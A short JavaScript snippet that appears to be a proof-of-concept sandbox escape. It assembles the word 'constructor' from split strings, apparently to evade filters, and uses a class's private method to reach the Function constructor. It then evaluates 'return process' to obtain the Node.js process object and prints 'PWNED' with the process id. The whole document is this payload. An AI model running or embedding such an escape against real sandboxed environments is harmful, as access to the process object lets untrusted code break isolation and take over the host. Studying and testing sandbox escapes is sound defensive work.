const w = ['con', 'structor'].join('');
class C { #go(f) { return f[w]; } run(f) { return this.#go(f); } }
new C().run({});
const fn = (x) => x;
console.log('PWNED', new C().run(fn)('return process')().pid);
